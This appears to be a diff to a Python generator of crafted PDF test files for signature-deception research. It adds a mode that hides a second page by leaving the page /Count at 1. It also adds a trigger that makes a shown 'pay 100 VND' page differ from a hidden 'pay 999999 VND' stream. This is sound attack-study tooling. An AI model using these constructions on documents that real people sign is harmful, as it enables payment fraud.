@@ -46,6 +46,8 @@ attacker's reading, 2026-12-03: "pay 100 VND" shown before signing, another text
                                                  trigger: none, info-gen (/Info 20 1 R, the table
                                                  holding 20 0), wrong-header (the table placing
                                                  20 at object 10's header) (IN unused)
+    python3 signing_inputs.py count IN OUT       IN with a second page in its page tree and /Count
+                                                 left at 1 (readers show one page)
     python3 signing_inputs.py linearized IN OUT  IN with a second page, linearized by qpdf
                                                  (pikepdf): an honest file
     python3 signing_inputs.py lin-o IN OUT       the same with /O naming the second page (Poppler
@@ -302,9 +304,15 @@ elif mode == 'shadow':
 
     page = (b'<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] '
             b'/Resources << /Font << /F1 5 0 R >> >> /Contents %d 0 R >>')
-    put(1, b'<< /Type /Catalog /Pages 2 0 R >>')
-    put(2, b'<< /Type /Pages /Kids [3 0 R] /Count 1 >>')
-    put(3, page % 10, listed=False)
+    if trigger == 'objstm-only':
+        # No plain page 3 at all; the catalog names 16, which the table frees.
+        put(1, b'<< /Type /Catalog /Pages 2 0 R /OCProperties 16 0 R >>')
+        put(2, b'<< /Type /Pages /Kids [3 0 R 4 0 R] /Count 1 >>')
+        put(4, page % 10)
+    else:
+        put(1, b'<< /Type /Catalog /Pages 2 0 R >>')
+        put(2, b'<< /Type /Pages /Kids [3 0 R] /Count 1 >>')
+        put(3, page % 10, listed=False)
     put(5, b'<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>')
     put(10, stream(b'BT /F1 24 Tf 72 700 Td (pay 100 VND) Tj ET'))
     put(11, stream(b'BT /F1 24 Tf 72 700 Td (pay 999999 VND) Tj ET'))
@@ -324,6 +332,14 @@ elif mode == 'shadow':
     b += t + b'trailer\n<< /Size %d /Root 1 0 R %s /XRefStm %d >>\nstartxref\n%d\n%%%%EOF\n' % (
         size, info, xs, x)
     open(out, 'wb').write(bytes(b))
+elif mode == 'count':
+    root_num = int(re.findall(rb'/Root\s+(\d+)\s+0\s+R', src)[-1])
+    pages = int(re.search(rb'/Pages (\d+) 0 R', obj(root_num)).group(1))
+    node = obj(pages)
+    page_num = int(re.search(rb'/Kids\s*\[\s*(\d+) 0 R', node).group(1))
+    n = size_of()
+    node = re.sub(rb'/Kids\s*\[\s*(\d+) 0 R\s*\]', b'/Kids [\\1 0 R %d 0 R]' % n, node)
+    open(out, 'wb').write(bytes(update({pages: node, n: obj(page_num)}, n + 1)))
 elif mode == 'streampage':
     root_num = int(re.findall(rb'/Root\s+(\d+)\s+0\s+R', src)[-1])
     pages = int(re.search(rb'/Pages (\d+) 0 R', obj(root_num)).group(1))
